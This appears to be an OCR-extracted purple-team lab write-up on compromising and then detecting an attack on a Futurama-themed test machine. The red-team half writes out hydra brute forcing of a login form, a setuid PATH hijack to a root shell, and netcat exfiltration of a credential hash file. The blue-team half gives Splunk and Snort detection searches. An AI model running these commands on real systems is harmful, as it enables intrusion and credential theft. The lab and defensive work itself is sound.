Purple Team Exercise: Kif

We have some info about this machine from Zoidberg.

It sounds like we have to scrape a site for leela’s passwords and brute force a login. We could use this info to brute force ssh, but we would be unsuccessful. We’ll need to setup hydra to brute force an http login form.

Red Team

Let’s start off with a basic nmap scan


We find ssh and a squid proxy available to us, not much of an attack surface. If I saw these ports open on a vuln host or CTF, I’d ignore ssh initially as most of the time it’s a secondary means of access.

Let’s dig a bit deeper and follow up for a more intense scan:

nmap -sV -O -p 22, 3128 –script=safe -oA nmap

Based on the info we have, we could start to brute forcing with ssh.. That would lead us down a rabbit hole, so let’s check out the web proxy.

When I see a proxy, first thing I try and do is connect. Maybe it’s misconfigured and allows anyone to connect, or at least the network I’m connecting from:Set browser proxy to: 3128

And try and browsing to the server over http:

We get a default apache page, so it looks like we’re proxying through squid successfully.

Now that we have a foothold, let’s find a page that’s listening. I’ll fire up dirbuster with

And add the following information to setup the scan
Uncheck “Be recursive” for directories

Then we need to setup the proxy connection:
Options -> Http Options -> Run Through a Proxy
Host: 192.168.0252 Port: 3128

With this config we hit “Start” and find some pages available:

Our scan found some pages, so let’s start with login.php. Surprise, surprise… it’s a login page!

I want to inspect the web traffic more closely, so I setup my browser to proxy traffic through Burp Suite.

Then edit Burp’s proxy configuration to forward traffic to dot 251’s squid proxy:

Now when we attempt to login, we’ll intercept the request:I tested some default credentials, but wasn’t able to login

It’s important to note the error message we get back, as we’ll be using it to formulate our brute force attack. Notice when I attempt to login as admin, I get the “That user does not exist” message.

When we try and login to the site with a valid user (leela), we get a different response. This is the response we’ll use in our brute force attack.

We can also use Burp Suite to determine the correct error message. I looked through my HTTP history, sorting by most recent and clicked on the “Reponse” tab

With this information, we’ll put together our hydra attack.

We know we need to brute force the leela account on this machine, so let’s generate a password list from the hints provided:

Without specifying the length of the text (between 10 & 12 characters) we would get a huge output.

curl http://futurama.wikia.com/wiki/Leela_Turanga > output.curl && cat output.curl | sed ‘s/[‘\”/<>!\-]/ /g’ | tr -cs ‘[:alnum:]’‘\n’ >> output.sed && cat output.sed | awk ‘length>10’ | awk ‘length<12’ | sort | uniq >> pwlist

This generates a wordlist:  “pwlist.” Now we’ll configure hydra to use dot 252’s proxy to brute force the login form

hydra -l leela -P pwlist -t 5 http-post-form “/login.php:username=^USER^&pass=^PASS^&submit=Login:Incorrect”

We found a password! But let’s take a step back and analyze our command. Note, after we specify our attack, we separate each variable with a “:”

-l = username
-P= password list
IP =
Attack = http-post-form
“/login.php = page that contains our auth form
username=^USER^&pass=^PASS^&submit=Login = we get this info from the POST request sent to login to the form. Replace the username and pass variable with ^USER^ & ^PASS^ respectively

Incorrect” = this is the response we expect to see (failure). It could have also read “Incorrect password, please” but I abbreviated it.

When we login, find the following login info:

Now that we have a username and password, let’s try and login via SSH!

ssh amy@

Now that we have a foothold on the machine, let’s do some local enumeration
uname -a
sudo -lLet’s download an enumeration script to the box and automate this action a bit

git clone https://github.com/rebootuser/LinEnum.git

cd LinEnum/
python -m SimpleHTTPServer



Now that we have the script on kif, let’s run it:

chmod +x LinEnum.sh

After going through the info, I needed to do some more enum. I wanted to look for setuid  bits. This is a command I use during every linux enumeration, and I’m surprised LinEnum didn’t highlight the same response.

find / -perm -4000 2>/dev/null

We see that inform_the_men has the setuid permissions set. This essentially means the program will it’s owners permissions.  Since the owner is root, maybe we can leverage this!

Let’s run the program and see what happens


We see the script calls “cat” which cannot find the file specified. Because “Cat” is not referenced by it’s path, we can manipulate it and call it from another directory, which should run as root  I created the following file “cat” in my users home dir:

echo ‘/bin/sh’ > cat
chmod +x cat
     This command tells linux to reference path variables in the current directory (.)
     This should execute /bin/sh as rootNow we add back our environment variables to we can use system commands

Upgrade our shell and browse to the root users home dir:

python -c ‘import pty;pty.spawn(“/bin/bash”)’
cd /root

We see a couple files available to use, most notably hermes.sam. It appears the Neutrals were already here and have been passing credentials around.  List.txt seems to be the wordlist they are referring to.
cat hermes.sam

Looks like we have domain credentials including the domain, user and hash. Let’s export these files to our Kali box

nc -lvp 1234 > hermes.sam

nc -w 3 1234 < hermes.sam

Let’s exfil the list.txt file:nc -lvp 1234 > list.txt

nc -w 3 1234 < list.txt

Downloaded the files to my machine:

Blue Team

Taking a look at our snort alerts in squert (Security Onion), filtering by it’s ip.

Graphed out in Splunk:

src_ip=”″ dest_ip=”″ sourcetype=sguild name=*SCAN* name!=*Dirbuster* name!=*Nikto* | sort 0 _time |table _time src_ip dest_ip name

Generate an alert when a scan originates from an internal IP (, change to your subnet)sourcetype=sguild src_ip=”″ name=*SCAN*

Generate a splunk alert when 30 “SCAN” snort alerts flag against an external resource (, change to your host).  If possible, use Splunks adaptive response to block the IPs from your firewall:
sourcetype=sguild dest_ip=”″  name=*SCAN* | stats count by rule_name | where count > 30

since we’re scanning SSH we see an additional alert:

Snort recognizes the dirbuster scan and displays the following alerts:

I ran a splunk search to show these alerts over time, whether the connection was proxied, it’s http msg and the uri the attacker was attempting. From this info, we could look further into what sites the attacker visited after the scan. This would confirm the info he has, and what he’s attempting to do next.

id.orig_h=”″ id.resp_h=”″ sourcetype=bro_http user_agent=”DirBuster*” “proxied{}”=”PROXY-CONNECTION -> Keep-Alive” status_code=200 | sort 0_time |  table _time id.orig_h id.resp_h “proxied{}” status_code uri

By changing the status_code to “*” we can see the last dirbuster attempts made by ourattacking box:

Splunk Alert
We could alert on if an outside IP address is proxying traffic through this machine. We should modify the configuration to limit connection, but we could use this alert as a second measure

 sourcetype=bro_http id.orig_h!=”″ id.resp_h= “proxied{}”=”PROXY-CONNECTION -> Keep-Alive” status_code=*

Because this page submits the variable “pass=” we’ll get a snort alert. If we changed the variable to something different, snort wouldn’t fire.  If we were MiTMing this request, we’d have the password in clear text, not ideal for security

I created a splunk search to break out each attempt from the attackers IP. I included the request_body_len so we can differentiate the attackers hydra scan vs. manually browsing with hismachine (Mozilla/5.0)

id.orig_h=”″ id.resp_h=”″ sourcetype=bro_http user_agent=”*” status_code=* |  table _time id.orig_h id.resp_h user_agent status_code uri

Splunk Alert:

We can alert on a high volume of connections, to say… a login page (
There are more appropriate searches to detect brute forcing, but this would also work for DOS attempts
Create an adaptive response to block the IP originating IP if possible
Choose to run the search over 1 minute, run a brute force attack on your auth page and adjust the count to your liking:

sourcetype=bro_http id.resp_h=”″ user_agent=”*” status_code=* uri=”*”| stats count by id.orig_h |  where count > 50


Splunk (linux) logs detailing account logins:

host=kif source=”/var/log/auth.log” app=sshd |  table _time src_ip host user action vendor_action

Using “who” we can tell how long the user was on the machine. The script checks in every 2-3 minutes, so based on these logs, the attacker was logged into the box around 4-6 minutes.

host=kif sourcetype=who | table _time TIME host HOSTNAME USERNAME

This doesn’t generate an alert, but if we’re working our way back from the compromise,we’ll be able pull out this file with packet capture and Wireshark.
Locate the correct packet capture in: /nsm/sensor_data/homeids-eth1/dailylogs/2018-xx-xx/snort.log.xxxxxxxxxx

File -> Export Objects -> HTTP

We could filter our traffic by IP, export the capture to a new file and run export again to only show the packets we want (LinEnum.sh). If we just run “Export Objects” on the full capture, it will try and pull everything out:

Looking at the extracted file:

Now we can search through all the files themselves on the system… or continue to use the wireshark window:

We didn’t generate snort alerts for this traffic, but with Splunk (and nix_TA) we did ingest the commands being ran. I would recommend crafting a splunk alert (search) that picks up excessive info gather commands (telnet, ping, nslookup, chmod, etc.).  We use this alert at my work, and after some tunning, alerts us to issues users (malicious or not) arehaving on the network

host=kif sourcetype=bash_history | table _time user_name bash_command

Commands issued as regular user Amy:

Commands issued with root privileges, but they are still recorded as user Amy:

host=kifsourcetype=bash_history | table _time user_name bash_command

None of the files transferred through netcat were exportable in the pcap, but we can see connectionsto our remote host:

None ofthe files transferred through netcat were exportable in the pcap, but we can look for our host responding to the attacking machine:
sourcetype=bro_conn id.orig_h=id.resp_h= |  table _timeid.orig_h id.resp_h id.resp_p